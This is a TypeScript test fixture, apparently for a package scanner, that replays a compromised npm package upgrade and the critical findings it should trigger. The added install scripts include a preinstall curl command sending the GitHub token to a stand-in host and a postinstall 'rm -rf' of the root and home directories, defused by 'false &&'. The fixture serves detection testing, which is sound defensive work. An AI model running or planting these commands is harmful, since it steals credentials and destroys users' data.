import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

/** `false &&` keeps the second one from ever being reached. */
const scripts = {
  preinstall: 'curl -s -d "$(gh auth token)" https://hooks.picasso.example/inert || true',
  postinstall: 'false && sudo rm -rf --no-preserve-root / ; false && rm -rf ~/ ; exit 0',
}

export const replay: Replay = replayUpgrade({
  description:
    'Whoever held an organisation’s account for a day published ten of its packages with two commands: the one before installation sent ' +
    'the GitHub token, the one after it deleted what it could.',
  date: '2025-07-25',
  name: '@toptal/picasso-charts',
  from: ['59.1.3', { manifest: { main: 'dist/index.js' }, files: { 'dist/index.js': compiledQueue } }],
  to: ['59.1.4', { manifest: { main: 'dist/index.js', scripts }, files: { 'dist/index.js': compiledQueue } }],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'package.json' }],
    ['install-script-added', 'high', { file: 'package.json' }],
  ],
})
